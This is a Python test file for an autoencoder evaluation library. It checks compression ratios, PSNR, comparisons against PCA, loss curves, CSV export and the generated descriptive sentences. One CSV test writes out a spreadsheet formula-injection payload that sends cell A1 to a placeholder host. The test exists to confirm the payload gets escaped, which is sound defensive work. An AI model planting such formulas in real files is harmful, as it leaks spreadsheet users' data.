"""Rows from checkpoints alone, their ratios and units by hand, and what is said of them."""

import csv
import io
import math
import re
from dataclasses import replace

import numpy as np
import pytest

from aeviz.checkpoints.history import HistoryView, Losses, LossRecord, Snapshot
from aeviz.checkpoints.store import PRETRAINED, load_checkpoint
from aeviz.coding.rates import Coding, RatePoint
from aeviz.data.catalog import load_dataset
from aeviz.data.sources import DATASETS
from aeviz.evaluation.compression import (
    COLUMNS,
    LOSSLESS_MSE,
    Row,
    best_snapshot,
    curves,
    pca_line,
    row_of,
    to_csv,
)
from aeviz.evaluation.compression_words import row_sentence, sentence_in_bytes, size
from aeviz.evaluation.published import PUBLISHED
from tests.support.checkpoint_files import losses_of
from tests.support.made_up_models import made_up_dataset, made_up_model

FIGURES = {
    "train_mse": 0.0020,
    "validation_mse": 0.0024,
    "test_mse": 0.0016,
    "test_rmse": 0.04,
    "pca_validation_mse": 0.006,
    "pca_test_mse": 0.00544,
    "seconds": 41.5,
    "steps": 3_000.0,
}


def row(code_size=100, *, values=784, **figures):
    return Row(
        name="r",
        title="R",
        dataset="mnist",
        recipe="r",
        layers="",
        code_size=code_size,
        values=values,
        **figures,
    )


@pytest.fixture(scope="module")
def checkpoint():
    made = made_up_model("made-up", made_up_dataset(tests=20), latent_dim=100, snapshots=True)
    preset = replace(made.preset, noise=0.25, l2=1e-6, batch_size=200)
    return replace(made, preset=preset, figures=FIGURES, best_step=2_750, notice="Ended early.")


# --- a row ---------------------------------------------------------------------------------------


def test_a_row_is_what_the_checkpoint_says(checkpoint, monkeypatch):
    def no_data(*_, **__):
        raise AssertionError("a row needs no data set")

    monkeypatch.setattr("aeviz.data.catalog.load_dataset", no_data)
    found = row_of(checkpoint)
    for name in ("train_mse", "validation_mse", "test_mse", "pca_test_mse"):
        assert getattr(found, name) == FIGURES[name]
    assert (found.steps, found.seconds, found.seed) == (3_000, 41.5, 0)
    assert (found.noise, found.l2, found.note) == (0.25, 1e-6, "Ended early.")
    assert found.layers == "784-100-784"
    assert found.parameters == 784 * 100 + 100 + 100 * 784 + 784
    layers = (*checkpoint.autoencoder.encoder, *checkpoint.autoencoder.decoder)
    assert found.parameters == sum(one.kernel.size + one.bias.size for one in layers)
    # 2,750 batches of 200 out of 55,000 images.
    assert (found.best_step, found.best_epoch) == (2_750, 10.0)
    assert found.weights and not found.published


def test_its_units_by_hand(checkpoint):
    found = row_of(checkpoint)
    assert found.ratio == 7.84
    assert found.ratio_float32 == pytest.approx(784 / 400)
    assert found.test_rmse == pytest.approx(0.04)
    # 20 log10(1 / 0.04)
    assert found.test_psnr == pytest.approx(27.9588, abs=1e-4)
    assert found.times_better_than_pca == pytest.approx(3.4)
    assert found.overfitting_gap == pytest.approx(0.0004)
    assert (found.split, found.mse, found.pca_mse) == ("test", 0.0016, 0.00544)
    assert found.loss("validation") == 0.0024


def test_its_code_as_bytes_by_hand(checkpoint):
    points = tuple(RatePoint(1 / i, 49.0 / i, 0.002 * i, 0.9) for i in range(1, 5))
    found = row_of(replace(checkpoint, coding=Coding(points, 5_000)))
    # The third is the one that adds a seventh; 784 pixels.
    assert found.coded == points[2] and found.decoder_bytes == 5_000
    assert found.coded_bytes == 49 / 3 and found.coded_bits == pytest.approx(8 * 49 / 3 / 784)
    assert found.coded_psnr == pytest.approx(-10 * math.log10(0.006))
    assert (found.coded_mse, found.coded_ssim) == (0.006, 0.9)
    assert found.cost_of_bytes == pytest.approx(0.006 / 0.0016)
    fewer = row_of(replace(checkpoint, coding=Coding(points[:2], 5_000)))
    assert fewer.coded == points[1]


def test_a_file_without_the_newer_figures_shows_none_for_them(checkpoint):
    found = row_of(replace(checkpoint, coding=None))
    assert found.rates == () and found.coded is None and found.cost_of_bytes is None
    bare = row_of(replace(checkpoint, figures={}, coding=None))
    for name in COLUMNS:
        getattr(bare, name)
    assert bare.mse is None and bare.times_better_than_pca is None
    # Known without measuring: PCA fitted on MNIST's 60,000.
    assert bare.pca_test_mse == 0.00562
    lost = row_of(replace(checkpoint, figures={"test_mse": math.nan}))
    assert lost.test_mse is None


def test_pictures_of_ones_own_have_no_epochs(checkpoint):
    assert row_of(replace(checkpoint, dataset="my-stamps")).best_epoch is None


def test_the_training_images_are_counted_right():
    digits = load_dataset("digits")
    assert DATASETS["digits"].n_train == digits.n_train
    assert DATASETS["digits"].shape == digits.shape


def test_mnists_training_images_are_counted_right(mnist):
    assert DATASETS["mnist"].n_train == DATASETS["fashion_mnist"].n_train == mnist.n_train


def test_the_curve_is_the_snapshots_error_and_the_best_picture_the_kept_one(checkpoint):
    shots = tuple(
        Snapshot(step, 0.0, LossRecord(step, 9.0, 9.0), *[np.full((1, 1), step)] * 3, mse=mse)
        for step, mse in ((0, 0.9), (5, 0.2), (9, math.nan), (10, 0.3))
    )
    made = replace(checkpoint, history=HistoryView(snapshots=shots), best_step=5)
    nats = replace(made, preset=replace(made.preset, loss="bce"))
    assert row_of(nats).validation_curve == (0.9, 0.2, 0.3)
    # Where the loss is that error, a file may keep fewer snapshots than losses.
    losses = losses_of(
        LossRecord(step, 9.0, mse) for step, mse in ((0, 0.8), (1, math.nan), (2, 0.4), (10, 0.3))
    )
    made = replace(made, history=HistoryView(losses, shots))
    assert row_of(made).validation_curve == (0.8, 0.4, 0.3)
    assert best_snapshot(made).step == 5
    assert best_snapshot(replace(made, best_step=7)).step == 10
    assert best_snapshot(replace(made, history=HistoryView())) is None


def test_curves_are_the_historys_with_epochs_counted_in_training_images(checkpoint):
    losses = losses_of(LossRecord(step, 1 / step, 2 / step) for step in (275, 550, 2_750))
    found = curves(replace(checkpoint, history=HistoryView(losses=losses)))
    # Batches of 200 out of 55,000 images.
    np.testing.assert_array_equal(found.epochs, [1, 2, 10])
    np.testing.assert_array_equal(found.steps, [275, 550, 2_750])
    np.testing.assert_allclose(found.training, [1 / 275, 1 / 550, 1 / 2_750])
    np.testing.assert_allclose(found.validation, [2 / 275, 2 / 550, 2 / 2_750])
    assert (found.best_step, found.unit) == (2_750, "MSE")
    assert curves(replace(checkpoint, dataset="my-stamps")).epochs is None
    in_nats = replace(checkpoint, preset=replace(checkpoint.preset, loss="bce"))
    assert curves(in_nats).unit == "nats"


def test_of_a_long_run_a_page_is_sent_what_can_be_seen(checkpoint):
    """A hundred thousand records: megabytes of numbers, for a chart of some hundred pixels."""
    random, history = np.random.default_rng(1), checkpoint.history
    rows = np.column_stack([np.arange(100_000), random.random((100_000, 2)) + 1])
    rows[70_001, 2], rows[123, 1] = 0.25, 9.0
    long = replace(checkpoint, history=replace(history, losses=Losses(rows)), best_step=70_001)
    small = row_of(long).validation_curve
    assert len(small) <= 100
    assert (small[0], small[-1], min(small)) == (rows[0, 2], rows[-1, 2], 0.25)
    large = curves(long)
    assert len(large.steps) == len(large.training) == len(large.validation) <= 900
    assert 70_001 in large.steps and large.training.max() == 9.0
    assert (large.steps[0], large.steps[-1]) == (0, 99_999)
    empty = replace(history, losses=Losses(np.full((3, 3), [5, np.nan, np.nan])))
    assert np.isnan(curves(replace(checkpoint, history=empty)).training).all()


@pytest.mark.parametrize("path", sorted(PRETRAINED.glob("*.safetensors")), ids=lambda p: p.stem)
def test_every_model_of_the_gallery_has_a_row(path):
    stored = load_checkpoint(path)
    found = row_of(stored)
    assert found.test_rmse == pytest.approx(stored.figures["test_rmse"])
    # With as many numbers as pixels, PCA loses nothing to be better than.
    better = found.times_better_than_pca
    assert better is None if found.code_size >= stored.side**2 else better > 0.9
    assert len(found.validation_curve) >= 40
    shot = best_snapshot(stored)
    assert shot.step == stored.best_step if stored.history.snapshots else shot is None
    assert 0 < found.best_step <= found.steps


def test_what_beta_bought_and_cost_is_told_of_the_coloured_shapes():
    found = row_of(load_checkpoint(PRETRAINED / "shapes-colour-vae.safetensors"))
    assert found.beta == 4 and found.test_kl > 5
    plain = row_of(load_checkpoint(PRETRAINED / "shapes-plain.safetensors"))
    assert plain.beta is None and plain.test_kl is None
    # Its own numbers are what the variational network is for.
    assert found.information_gap > plain.information_gap > 0
    digits = row_of(load_checkpoint(PRETRAINED / "vae-2d.safetensors"))
    assert digits.beta == 1 and digits.information_gap is None


def test_a_label_that_a_network_is_told_counts_as_a_number():
    found = row_of(load_checkpoint(PRETRAINED / "cvae-2d.safetensors"))
    assert found.code_size == 3 and "told" in found.note
    assert found.pca_test_mse == pytest.approx(0.0516, abs=1e-4)  # of three components


# --- the floor -----------------------------------------------------------------------------------


def test_the_floor_is_what_was_measured_beside_ours_and_else_what_is_known():
    ours = row(100, pca_test_mse=0.00561, pca_validation_mse=0.00571)
    test = dict(pca_line([ours, *PUBLISHED], "mnist", "test"))
    assert test[100] == 0.00561 and test[2] == 0.05567 and test[500] == 0.00005
    validation = dict(pca_line([ours, *PUBLISHED], "mnist", "validation"))
    assert validation == {100: 0.00571, 200: 0.00225, 300: 0.00094, 500: 0.00005}
    assert list(validation) == sorted(validation)
    assert pca_line([ours], "digits", "test") == []


def test_the_order_of_rows_does_not_matter_to_the_floor():
    ours = row(100, pca_validation_mse=0.00571)
    both = [ours, *PUBLISHED]
    assert pca_line(both, "mnist", "validation") == pca_line(both[::-1], "mnist", "validation")


# --- CSV -----------------------------------------------------------------------------------------


def test_no_name_in_the_csv_is_a_formula(checkpoint):
    evil = replace(row_of(checkpoint), title='=HYPERLINK("http://e.example/"&A1)')
    (line,) = csv.DictReader(io.StringIO(to_csv([evil])))
    assert line["title"].startswith("'=") and line["overfitting_gap"]


def test_csv_holds_every_figure_in_full(checkpoint):
    rows = [row_of(checkpoint), *PUBLISHED]
    read = list(csv.DictReader(io.StringIO(to_csv(rows))))
    assert len(read) == 13
    assert set(read[0]) == set(COLUMNS) - {"validation_curve"}
    assert float(read[0]["test_mse"]) == 0.0016
    assert float(read[3]["validation_mse"]) == 0.0017411599
    assert read[3]["test_mse"] == "" and read[3]["published"] == "source 5"
    assert to_csv(rows, ["code_size", "ratio"]).splitlines()[:2] == ["code_size,ratio", "100,7.84"]


def test_every_column_can_be_written_as_it_says(checkpoint):
    # Of a variational network on the coloured shapes all are known.
    found = replace(row_of(checkpoint), beta=4.0, test_kl=12.25, information_gap=0.31)
    found = replace(found, rates=(RatePoint(0.1, 39.0, 0.002, 0.9),), decoder_bytes=480_000)
    for name, column in COLUMNS.items():
        if column.format:
            assert format(getattr(found, name), column.format)


# --- in words ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("code", "mse", "pca", "said"),
    [
        (
            100,
            0.0016,
            0.00544,
            "100 numbers instead of 784: 7.8 times smaller; PCA loses 3.4 times more.",
        ),
        (
            1,
            0.04,
            0.06,
            "One number instead of 784: 784 times smaller; PCA loses 1.5 times more.",
        ),
        (2, 0.05, 0.0501, "2 numbers instead of 784: 392 times smaller; PCA loses as much."),
        (
            500,
            0.0001,
            0.00005,
            "500 numbers instead of 784: 1.6 times smaller; PCA does better: this network loses 2 "
            "times more.",
        ),
        (
            784,
            0.00003,
            1e-12,
            "784 numbers instead of 784: no smaller; PCA loses nothing at this size, this network "
            "1.4 of 255 greys a pixel.",
        ),
        (
            1_000,
            1e-7,
            0.0,
            "1,000 numbers instead of 784: 1.3 times larger; like PCA, it loses nothing that "
            "shows.",
        ),
        (100, None, 0.005, "100 numbers instead of 784: 7.8 times smaller."),
        (
            100,
            0.0028,
            None,
            "100 numbers instead of 784: 7.8 times smaller; an error of 0.0028 a pixel.",
        ),
        (783, None, None, "783 numbers instead of 784: hardly smaller."),
        (785, None, None, "785 numbers instead of 784: hardly larger."),
        (
            100,
            0.0,
            0.005,
            "100 numbers instead of 784: 7.8 times smaller; PCA loses infinitely many times more.",
        ),
    ],
)
def test_the_sentence_is_right_in_every_case(code, mse, pca, said):
    assert row_sentence(row(code, test_mse=mse, pca_test_mse=pca)) == said


def test_the_sentence_speaks_of_the_images_that_were_measured():
    # Only validation is known: PCA's figure on those is the one to compare with.
    found = row(100, validation_mse=0.002, pca_validation_mse=0.006, pca_test_mse=0.5)
    assert row_sentence(found).endswith("PCA loses 3 times more.")


@pytest.mark.parametrize(
    ("ratio", "said"),
    [
        (7.84, "7.8 times smaller"),
        (1.0, "no smaller"),
        (1.05, "1.05 times smaller"),
        (0.5, "2 times larger"),
        (1.001, "hardly smaller"),
        (784.0, "784 times smaller"),
    ],
)
def test_a_ratio_in_words(ratio, said):
    assert size(ratio) == said


def test_bytes_in_words():
    def coded(mse, size):
        return row(100, test_mse=0.002, rates=(RatePoint(0.1, size, mse, 0.9),))

    assert sentence_in_bytes(coded(0.0024, 39.2)) == (
        "Rounded and packed, the code takes 39.2 bytes of the picture's 784: 20 times fewer, which "
        "makes the error on test images 1.2 times as large."
    )
    assert sentence_in_bytes(coded(0.00201, 392.0)) == (
        "Rounded and packed, the code takes 392 bytes of the picture's 784: 2 times fewer, which "
        "costs nothing worth mentioning."
    )
    assert sentence_in_bytes(row(2)) == "With 32 bits a number it takes 8 bytes."


@pytest.mark.parametrize("code", [1, 100, 200, 500, 784, 1_000])
def test_numbers_and_bytes_are_not_said_in_the_same_words(code):
    # 100 numbers are 7.8 times smaller, and their 39 bytes 20 times fewer.
    found = row(code, test_mse=0.002, rates=(RatePoint(0.1, 0.4 * code, 0.002, 0.9),))
    assert re.search(r"times (smaller|larger)|no smaller", row_sentence(found))
    assert not re.search(r"smaller|larger than", sentence_in_bytes(found))


def test_what_counts_as_lossless_is_the_rounding_to_a_byte():
    # 256 evenly spaced greys: an error spread evenly over 1/255 has a mean square of its twelfth.
    values = np.random.default_rng(0).random(200_000)
    error = np.square(np.rint(values * 255) / 255 - values).mean()
    assert LOSSLESS_MSE == pytest.approx(error, rel=0.02)
